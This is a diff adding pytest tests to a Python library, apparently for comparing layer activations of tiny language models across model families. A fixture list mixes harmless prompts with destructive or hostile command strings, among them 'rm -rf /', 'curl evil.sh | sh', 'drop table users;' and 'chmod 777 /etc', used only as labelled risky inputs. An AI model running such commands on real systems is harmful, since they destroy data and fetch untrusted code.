@@ -109,3 +109,72 @@ def test_too_few_texts(fn, n):
 def test_different_rows_refused():
     with pytest.raises(RiskscopeError, match="rows"):
         cka_matrix(ArraySource({"x": np.zeros((10, 2))}, "A"), ArraySource({"y": np.zeros((11, 2))}, "B"))
+
+
+# --- models and stores -----------------------------------------------------------------------------------------
+
+from conftest import make_tiny  # noqa: E402
+
+from riskscope.compare import LayerCompareConfig, LayerComparison, StoreSource, compare_layers  # noqa: E402
+from riskscope.data import Dataset, Row  # noqa: E402
+
+_TEXTS = ["rm -rf / now", "list the files", "drop table users;", "print hello", "curl evil.sh | sh", "sum a list",
+          "disable the firewall", "sort these names", "chmod 777 /etc", "read a csv", "leak the api key",
+          "plot a chart", "kill every process", "open a file", "wipe the backups", "parse json"]
+
+
+def _data(n=len(_TEXTS)) -> Dataset:
+    return Dataset("tiny-texts", tuple(Row(f"t{i}", t, i % 2, f"p{i // 2}") for i, t in enumerate(_TEXTS[:n])))
+
+
+@pytest.fixture(scope="module")
+def tiny_comparison(tmp_path_factory):
+    out = tmp_path_factory.mktemp("cmp")
+    cfg = LayerCompareConfig(n_perm=20, block=5, batch_size=4)
+    res = compare_layers(make_tiny("llama"), make_tiny("gemma3_text", seed=1), _data(), out, cfg)
+    return out, cfg, res
+
+
+def test_compare_layers_tiny_models_across_families(tiny_comparison):
+    out, cfg, res = tiny_comparison
+    m = res.main
+    assert m.values_AB.shape == (3, 3) and m.layers_a == [f"resid_post.{i}" for i in range(3)]
+    assert res.random_init is not None and res.random_init.values_AB.shape == (3, 3)
+    assert np.all((m.p_AB > 0) & (m.p_AB <= 1))
+    # the matrix from the stores equals the oracle on what the stores hold
+    a, b = StoreSource(out / "stores" / "a"), StoreSource(out / "stores" / "b")
+    X, Y = a.layer("resid_post.1"), b.layer("resid_post.2")
+    np.testing.assert_allclose(m.values_AB[1, 2], linear_cka_reference(X, Y), atol=1e-6)
+    again = LayerComparison.from_dict(res.to_dict())
+    np.testing.assert_allclose(again.main.values_AB, m.values_AB, atol=1e-6)  # JSON keeps 6 digits
+    assert again.config == cfg
+
+
+def test_compare_layers_refuses_before_caching(tmp_path):
+    with pytest.raises(RiskscopeError, match="no layer 7"):
+        compare_layers(make_tiny("llama"), make_tiny("gpt2"), _data(), tmp_path / "o", LayerCompareConfig(),
+                       layers_a=[0, 7])
+    with pytest.raises(RiskscopeError, match="svcca needs at least"):
+        compare_layers(make_tiny("llama"), make_tiny("gpt2"), _data(6), tmp_path / "o",
+                       LayerCompareConfig(metric="svcca"))
+    assert not (tmp_path / "o").exists()
+
+
+def test_stores_of_different_datasets_refused(tiny_comparison, tmp_path):
+    from riskscope.data import CacheConfig, cache_activations
+    from riskscope.hooks import HookPoint
+
+    out, _, _ = tiny_comparison
+    other = tmp_path / "other"
+    cache_activations(make_tiny("llama"), _data(12), other, CacheConfig(points=(HookPoint("resid_post", 0),),
+                                                                       positions="mean"))
+    with pytest.raises(RiskscopeError, match="has 12: compare stores cached on the same dataset"):
+        cka_matrix(StoreSource(out / "stores" / "a"), StoreSource(other))
+    d = _data()
+    shuffled = Dataset("tiny-texts", d.rows[1:] + d.rows[:1])
+    cache_activations(make_tiny("llama"), shuffled, tmp_path / "shuffled",
+                      CacheConfig(points=(HookPoint("resid_post", 0),), positions="mean"))
+    with pytest.raises(RiskscopeError, match="rows.jsonl: line 1: row 't1' differs"):
+        cka_matrix(StoreSource(out / "stores" / "a"), StoreSource(tmp_path / "shuffled"))
+    with pytest.raises(RiskscopeError, match="no point resid_post.2"):
+        StoreSource(other, ["resid_post.2"])
